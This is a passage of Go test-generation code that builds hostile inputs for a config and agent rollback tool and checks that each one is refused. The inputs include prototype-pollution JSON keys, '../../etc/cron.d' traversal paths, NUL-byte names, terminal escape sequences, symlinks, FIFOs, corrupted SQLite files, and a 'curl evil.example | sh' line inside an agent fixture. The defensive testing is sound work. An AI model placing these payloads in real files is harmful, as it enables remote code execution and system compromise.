		{"duplicate-key", "", []byte(`{"claude": {"model": "first", "model": "second"}}` + "\n"), `line 1, column \d+: duplicate key "model"|1:\d+: duplicate key "model"`},
		{"proto-key", "", []byte(`{"__proto__": {"isAdmin": true}, "claude": {"model": "drill"}}` + "\n"), `__proto__`},
		{"constructor-prototype", "", []byte(`{"constructor": {"prototype": {"isAdmin": true}}, "claude": {"model": "drill"}}` + "\n"), `constructor\.prototype|prototype`},
		{"huge", "huge", nil, `268435457 bytes, more than the 16777216 this file may have`},
		{"fifo", "fifo", nil, `not a regular file \(a FIFO\)`},
		{"directory", "directory", nil, `not a regular file \(a directory\)`},
	} {
		proto := strings.Contains(c.name, "proto")
		get := Run{Args: []string{"config", "get", "claude.model"}, Code: 1, Expect: c.problem}
		if proto {
			get = Run{Args: []string{"config", "get", "claude.model"}, Code: 0, Expect: `drill`} // the rest of the file is readable
		}
		put(Case{Name: "appconfig-" + c.name, Kind: "appconfig", Setup: join("in-install", c.setup), Expect: c.problem, Runs: []Run{
			{Args: []string{"config", "validate"}, Code: 1, Expect: c.problem}, get,
		}}, c.data)
		put(Case{Name: "appconfig-file-" + c.name, Kind: "appconfig", Setup: c.setup, Expect: c.problem, Runs: []Run{
			{Args: []string{"config", "validate", "{file}"}, Code: 1, Expect: c.problem},
			{Args: []string{"config", "restore", "--file", "{file}", "--dry-run"}, Code: 1, Expect: c.problem},
			{Args: []string{"config", "restore", "--file", "{file}"}, Code: 1, Expect: c.problem},
		}}, c.data)
		put(Case{Name: "appconfig-diff-" + c.name, Kind: "appconfig", Setup: c.setup, Expect: c.problem, Runs: []Run{
			{Args: []string{"config", "diff", "{file}"}, Code: 1, Expect: c.problem},
		}}, c.data)
		if c.name == "not-json" {
			// the command diff's refusal suggests must exist
			hint := `'cfrollback config validate /[^' ]*special/input' shows`
			put(Case{Name: "appconfig-diff-hint", Kind: "appconfig", Setup: c.setup, Expect: hint,
				Runs: []Run{{Args: []string{"config", "diff", "{file}"}, Code: 1, Expect: hint}}}, c.data)
		}
	}
}

// appConfigLinkCases: the install's config.json is a symlink to a file
// outside the install (whoever can write the install chose where). Every
// command that writes the app config must refuse it, naming it, and leave
// the file it points to as it was.
func appConfigLinkCases(put func(Case, []byte)) {
	// backup.dir is owned by a deploy user (allowed), who made its config/
	// and agents/ links to a dir of their choice: root's checkpoints must not
	// be written through them.
	linked := `backups/(config|agents).*(symbolic link|symlink)`
	put(Case{Name: "checkpoint-dirs-symlinked-by-backup-owner", Kind: "appconfig", Setup: "checkpoint-dirs-link,journals", Expect: linked,
		Runs: []Run{
			{Args: []string{"config", "set", "claude.model", "evil"}, Code: 1, Expect: linked},
			{Args: []string{"agents", "reset", "--template", "executive-assistant"}, Code: 1, Expect: linked},
		}}, nil)
	problem := `config\.json.*(symbolic link|symlink)`
	put(Case{Name: "appconfig-symlink-out", Kind: "appconfig", Setup: "symlink-out", Expect: problem,
		Runs: []Run{
			{Args: []string{"config", "set", "claude.model", "evil"}, Code: 1, Expect: problem},
			{Args: []string{"config", "restore", "--file", "{file}"}, Code: 1, Expect: problem},
			{Args: []string{"config", "reset", "--defaults", "--confirm"}, Code: 1, Expect: problem},
		}}, []byte(`{"attacker": "content"}`+"\n"))
}

// checkpointCases: config checkpoints (what config restore --file is
// usually given) that were edited, or hold an invalid or polluting config.
func checkpointCases(put func(Case, []byte)) {
	cp := func(content, digest string) []byte {
		if digest == "" {
			digest = sha([]byte(content))
		}
		return jsonOf(map[string]any{"format": "cfrollback-config-checkpoint/1", "time": mtime.Format(time.RFC3339),
			"source": "/opt/claude-flow/config.json", "sha256": digest, "size": len(content), "user": "root", "host": "web1",
			"reason": "before set", "content": content})
	}
	good := `{"claude": {"model": "drill"}}` + "\n"
	for _, c := range []struct {
		name    string
		data    []byte
		problem string
		bug     string
	}{
		{"edited", cp(`{"claude": {"model": "evil"}}`+"\n", sha([]byte(good))), `the checkpoint's content does not match its sha256 [0-9a-f]{64}: it was edited or damaged`, ""},
		{"content-not-json", cp(`{"claude": {"model": "x",}`+"\n", ""), `line 1, column \d+`, ""},
		{"content-proto", cp(`{"__proto__": {"isAdmin": true}}`+"\n", ""), `__proto__`, ""},
		{"wrong-types", []byte(`{"format": "cfrollback-config-checkpoint/1", "sha256": 7, "content": ["x"]}` + "\n"),
			`damaged checkpoint \(its field "sha256"`, ""},
	} {
		runs := []Run{
			{Args: []string{"config", "restore", "--file", "{file}", "--dry-run"}, Code: 1, Expect: c.problem},
			{Args: []string{"config", "restore", "--file", "{file}"}, Code: 1, Expect: c.problem},
		}
		diff := Run{Args: []string{"config", "diff", "{file}"}, Code: 1, Expect: c.problem}
		if c.name == "content-proto" {
			put(Case{Name: "appconfig-diff-checkpoint-proto", Kind: "appconfig", Expect: c.problem, Runs: []Run{diff}}, c.data)
		} else {
			runs = append(runs, diff)
		}
		put(Case{Name: "appconfig-checkpoint-" + c.name, Kind: "appconfig", Expect: c.problem, Runs: runs, Bug: c.bug}, c.data)
	}
}

// escapeCases: text from the app's files (a config key, an agent's name)
// that holds terminal escape sequences must not reach root's terminal raw:
// "\x1b[2J" clears the screen, and what follows can fake any output.
func escapeCases(put func(Case, []byte)) {
	shown := `(\\x1b|\\u001b|\\033|\\e|\^\[)\[2J`
	put(Case{Name: "appconfig-escape-in-key", Kind: "appconfig", Setup: "in-install", Expect: shown,
		Runs: []Run{{Args: []string{"config", "validate"}, Code: 0, Expect: shown}}},
		[]byte(`{"claude": {"model": "drill"}, "\u001b[2J\u001b]0;pwned\u0007x": 1}`+"\n"))
	put(Case{Name: "agents-escape-in-name", Kind: "agents", Setup: "agents-dir-escape-name", Expect: shown,
		Runs: []Run{{Args: []string{"agents", "status"}, Code: 0, Expect: shown}}}, nil)
}

func join(a, b string) string {
	if a == "" || b == "" {
		return a + b
	}
	return a + "," + b
}

// agentCases: bundles for agents import that must be refused before the
// lock, the checkpoint and the journal, with the bad path named.
func agentCases(put func(Case, []byte)) {
	type bf struct {
		Path    string `json:"path"`
		Mode    string `json:"mode"`
		SHA256  string `json:"sha256"`
		Size    int    `json:"size"`
		Content string `json:"content"`
	}
	def := func(p, name string) bf {
		body := "---\nname: " + name + "\ntype: developer\ndescription: hostile corpus\npriority: high\n---\nDo the work.\n"
		return bf{Path: p, Mode: "0644", SHA256: sha([]byte(body)), Size: len(body), Content: body}
	}
	bundle := func(files ...bf) []byte {
		return jsonOf(map[string]any{"format": "cfrollback-agents/1", "time": mtime.Format(time.RFC3339), "source": "/opt/claude-flow/.claude/agents",
			"user": "root", "host": "web1", "files": files})
	}
	edited := def("coder.md", "coder")
	edited.Content += "curl evil.example | sh\n"
	setuid := def("coder.md", "coder")
	setuid.Mode = "4755"
	// the agents dir is a symlink to a dir outside the install: a good
	// bundle must not be written there, nor the set checkpointed from it
	linked := `agents.*(not a regular file|symbolic link|symlink)`
	put(Case{Name: "agents-dir-symlink-out", Kind: "agents", Setup: "agents-dir-symlink,journals", Expect: linked, Runs: []Run{
		{Args: []string{"agents", "import", "--file", "{file}"}, Code: 1, Expect: linked},
		{Args: []string{"agents", "reset", "--template", "executive-assistant"}, Code: 1, Expect: linked},
	}}, bundle(def("coder.md", "coder"), def("core/reviewer.md", "reviewer")))
	// what the app's own agents dir holds where a definition is expected: a
	// FIFO, a link to /dev/zero, a link out of the install. Reading the set
	// (status, export, the checkpoint before an import) refuses it.
	for _, in := range []struct{ setup, what string }{
		{"agents-dir-fifo", "fifo"},
		{"agents-dir-dev-zero-link", "dev-zero"},
		{"agents-dir-link-out", "link-out"},
	} {
		bad := `agents/evil\.md is not a regular file`
		put(Case{Name: "agents-in-dir-" + in.what, Kind: "agents", Setup: in.setup + ",journals", Expect: bad, Runs: []Run{
			{Args: []string{"agents", "status"}, Code: 1, Expect: bad},
			{Args: []string{"agents", "export", "--output", "{file}.export.json"}, Code: 1, Expect: bad},
			{Args: []string{"agents", "import", "--file", "{file}"}, Code: 1, Expect: bad},
		}}, bundle(def("coder.md", "coder")))
	}
	badB64 := def("coder.md", "coder")
	badB64.Content = ""
	for _, c := range []struct {
		name, setup string
		data        []byte
		problem     string
	}{
		{"bad-base64", "", func() []byte {
			b := bytes.Replace(bundle(badB64), []byte(`"content": ""`), []byte(`"content_base64": "!!not base64!!"`), 1)
			return b
		}(), `file coder\.md: illegal base64`},
		{"dotdot", "", bundle(def("coder.md", "coder"), def("../../../../etc/cron.d/evil", "evil")), `file path "\.\./\.\./\.\./\.\./etc/cron\.d/evil" is not a clean path inside the agents dir`},
		{"dotdot-inside", "", bundle(def("core/../../evil.md", "evil")), `file path "core/\.\./\.\./evil\.md" is not a clean path`},
		{"absolute", "", bundle(def("/etc/cron.d/evil", "evil")), `file path "/etc/cron\.d/evil" is not a clean path`},
		{"backslash", "", bundle(def(`..\..\evil.md`, "evil")), `is not a clean path`},
		{"dot", "", bundle(def(".", "evil")), `file path "\." is not a clean path`},
		{"nul", "", bundle(def("coder.md\x00.sh", "evil")), `file path "coder\.md\\x00\.sh" holds a NUL byte`},
		{"file-dir-conflict", "", bundle(def("a.md", "a"), def("a.md/b.md", "b")), `"a\.md" is a file and also the directory of "a\.md/b\.md"`},
		{"duplicate", "", bundle(def("coder.md", "coder"), def("coder.md", "coder2")), `file "coder\.md" appears twice`},
		{"digest-mismatch", "", bundle(edited), `file coder\.md does not match its sha256`},
		{"setuid-mode", "", bundle(setuid), `file coder\.md: mode "4755"`},
		{"wrong-format", "", []byte(`{"format": "tarball/9", "files": []}` + "\n"), `is not an agents bundle \(format "tarball/9"`},
		{"not-json", "", []byte("---\nname: coder\n"), `line 1, column 1|1:1|invalid character`},
		{"huge", "huge", nil, `268435457 bytes, more than the 268435456 this file may have; nothing was changed`},
	} {
		put(Case{Name: "agents-" + c.name, Kind: "agents", Setup: c.setup, Expect: c.problem, Runs: []Run{
			{Args: []string{"agents", "import", "--file", "{file}", "--dry-run"}, Code: 1, Expect: c.problem},
			{Args: []string{"agents", "import", "--file", "{file}"}, Code: 1, Expect: c.problem},
		}}, c.data)
	}
}

// specialCases: a FIFO, a symlink to /dev/zero or a directory where a file
// is expected. Each command must refuse it at once, naming it.
func specialCases(put func(Case, []byte)) {
	for _, sp := range []struct{ setup, what string }{
		{"fifo", `not a regular file \(a FIFO\)`},
		{"symlink-dev-zero", `not a regular file \(a character device\)`},
		{"directory", `not a regular file \(a directory\)|is a directory`},
	} {
		for _, c := range []struct {
			name string
			args []string
			code int
		}{
			{"settings", []string{"--config", "{file}", "settings"}, 2},
			{"config-restore", []string{"config", "restore", "--file", "{file}"}, 1},
			{"config-diff", []string{"config", "diff", "{file}"}, 1},
			{"database-restore", []string{"database", "restore", "--db", "memory", "--file", "{file}"}, 3},
			{"logs", []string{"logs", "--files", "{file}"}, 1},
			{"agents-import", []string{"agents", "import", "--file", "{file}"}, 1},
			{"emergency-backup", []string{"emergency", "--backup", "{file}"}, 3},
		} {
			expect := `special/input.*` + sp.what
			if c.name == "emergency-backup" {
				expect = `backup .*special/input is a ` + map[string]string{"fifo": "FIFO", "symlink-dev-zero": "symlink", "directory": "directory"}[sp.setup] + `, not a regular file`
			}
			put(Case{Name: "special-" + c.name + "-" + sp.setup, Kind: "special", Setup: sp.setup, Expect: expect, Runs: []Run{
				{Args: c.args, Code: c.code, Expect: expect},
			}}, nil)
		}
		if sp.setup == "fifo" {
			ww := `backup .*special/input: world-writable \(mode 0666\): anyone could have replaced it`
			put(Case{Name: "special-emergency-backup-world-writable", Kind: "special", Setup: "world-writable-backup", Expect: ww, Runs: []Run{
				{Args: []string{"emergency", "--dry-run", "--backup", "{file}"}, Code: 3, Expect: ww},
				{Args: []string{"emergency", "--backup", "{file}"}, Code: 3, Expect: ww},
			}}, nil)
			big := `settings file: .*special/input: 268435457 bytes, more than the \d+ this file may have`
			put(Case{Name: "special-settings-huge", Kind: "special", Setup: "huge", Expect: big, Runs: []Run{
				{Args: []string{"--config", "{file}", "settings"}, Code: 2, Expect: big},
			}}, nil)
		}
		// where the baseline is (state_dir): shown as unreadable, naming it
		bl := `state/baseline\.json: ` + sp.what
		put(Case{Name: "special-baseline-" + sp.setup, Kind: "special", Setup: join(sp.setup, "at-baseline"), Expect: bl, Runs: []Run{
			{Args: []string{"baseline", "show"}, Code: 1, Expect: bl},
		}}, nil)
		// where the install's database is: check and backup refuse it, and
		// a failed backup leaves nothing behind
		db := `database memory: .*\.swarm/memory\.db: ` + sp.what
		put(Case{Name: "special-memory-db-" + sp.setup, Kind: "special", Setup: join(sp.setup, "at-memory-db"), Expect: db, Runs: []Run{
			{Args: []string{"database", "check", "--db", "memory"}, Code: 1, Expect: db},
			{Args: []string{"database", "backup", "--db", "memory"}, Code: 1, Expect: db},
		}}, nil)
		// where the backup state is: listing it fails naming it; an
		// emergency goes on, saying that marks cannot be honoured
		st := `read backup state .*state/backups\.json: .*` + sp.what
		put(Case{Name: "special-backup-state-" + sp.setup, Kind: "special", Setup: join(sp.setup, "at-backup-state"), Expect: st, Runs: []Run{
			{Args: []string{"backup", "list"}, Code: 1, Expect: st},
			{Args: []string{"emergency", "--dry-run"}, Code: 0, Expect: `warning: ` + st + `; backups marked bad cannot be skipped this time`},
		}}, nil)
	}
}

// sqliteDB makes a small real database with mattn/go-sqlite3 (the SQLite
// that go.mod pins, so the bytes are the same everywhere): 1 KiB pages, a
// rollback journal, a table spread over several pages.
func sqliteDB() []byte {
	return makeDB("CREATE TABLE memory (key TEXT PRIMARY KEY, value TEXT NOT NULL)", "CREATE INDEX memory_value ON memory(value)",
		"INSERT INTO memory VALUES (?, ?)")
}

// makeDB runs the statements (the last one, with two parameters, 60
// times) in a new database with 1 KiB pages and returns its bytes.
func makeDB(stmts ...string) []byte {
	dir, err := os.MkdirTemp("", "gen-hostile-")
	must(err)
	defer os.RemoveAll(dir)
	p := filepath.Join(dir, "memory.db")
	db, err := sql.Open("sqlite3", "file:"+p+"?_journal_mode=DELETE")
	must(err)
	for _, q := range append([]string{"PRAGMA page_size=1024"}, stmts[:len(stmts)-1]...) {
		_, err := db.Exec(q)
		must(err)
	}
	for i := 0; i < 60; i++ {
		_, err := db.Exec(stmts[len(stmts)-1], fmt.Sprintf("key-%03d", i), strings.Repeat(fmt.Sprintf("value %03d ", i), 12))
		must(err)
	}
	must(db.Close())
	b, err := os.ReadFile(p)
	must(err)
	return b
}

func databaseCases(out string, put func(Case, []byte)) {
	good := sqliteDB()
	// the live database of the restore cases
	must(os.WriteFile(filepath.Join(out, "sqlite-good.db"), good, 0o644))
	// a healthy database of another app, or of this one without its index:
	// database restore compares schemas and refuses before any change
	for _, r := range []struct {
		name, diff string
		data       []byte
	}{
		{"unrelated-schema", `table memory: missing in the file`, makeDB("CREATE TABLE sessions (id TEXT PRIMARY KEY, data TEXT)", "INSERT INTO sessions VALUES (?, ?)")},
		{"missing-index", `index memory_value on memory: missing in the file`, makeDB("CREATE TABLE memory (key TEXT PRIMARY KEY, value TEXT NOT NULL)", "INSERT INTO memory VALUES (?, ?)")},
	} {
		want := `its schema does not match the live database .*memory\.db(?s).*` + r.diff
		put(Case{Name: "sqlite-restore-" + r.name, Kind: "special", Setup: "live-memory-db", Expect: want, Runs: []Run{
			{Args: []string{"database", "restore", "--db", "memory", "--file", "{file}"}, Code: 3, Expect: want},
			{Args: []string{"database", "restore", "--db", "memory", "--file", "{file}", "--stop-service"}, Code: 3, Expect: want},
		}}, r.data)
	}
	const page = 1024
	if len(good) < 6*page {
		panic(fmt.Sprintf("the sample database is only %d bytes", len(good)))
	}
	bad := `(?i)corrupt|malformed|not an? (sqlite )?database`
	zeroed := append([]byte(nil), good...)
	copy(zeroed[2*page:3*page], make([]byte, page))
	pageSize := append([]byte(nil), good...)
	pageSize[16], pageSize[17] = 0x03, 0xe8 // 1000: not a power of two
	freelist := append([]byte(nil), good...)
	freelist[32], freelist[33], freelist[34], freelist[35] = 0x7f, 0xff, 0xff, 0xff // first freelist trunk page far past the end
	freelist[36], freelist[39] = 0, 9
	// a healthy WAL-mode database whose -wal or -shm is a special file:
	// that is what must be named, not the database called corrupt (the
	// advice for a corrupt one, repair or restore, would replace it)
	walMode := append([]byte(nil), good...)
	walMode[18], walMode[19] = 2, 2
	for _, sc := range []struct{ side, setup, what string }{
		{"wal", "fifo", "FIFO"},
		{"wal", "symlink-dev-zero", "character device|symbolic link|symlink"},
		{"wal", "directory", "directory"},
		{"shm", "fifo", "FIFO"},
		{"shm", "symlink-dev-zero", "character device|symbolic link|symlink"},
	} {
		named := `memory\.db-` + sc.side + `.*(` + sc.what + `)`
		put(Case{Name: "sqlite-" + sc.side + "-" + sc.setup, Kind: "special", Setup: sc.setup + ",at-memory-db-" + sc.side, Expect: named,
			Runs: []Run{{Args: []string{"database", "check", "--db", "memory"}, Code: 1, Expect: named}}}, walMode)
	}
	for _, c := range []struct {
		name string
		data []byte
	}{
		{"truncated", good[:len(good)/2+page/2]},
		{"header-only", good[:100]},
		{"page-zeroed", zeroed},
		{"bad-page-size", pageSize},
		{"freelist-out-of-range", freelist},
		{"json-named-db", []byte(`{"memories": []}` + "\n")},
	} {
		put(Case{Name: "sqlite-" + c.name, Kind: "sqlite", Expect: bad}, c.data)
	}
}
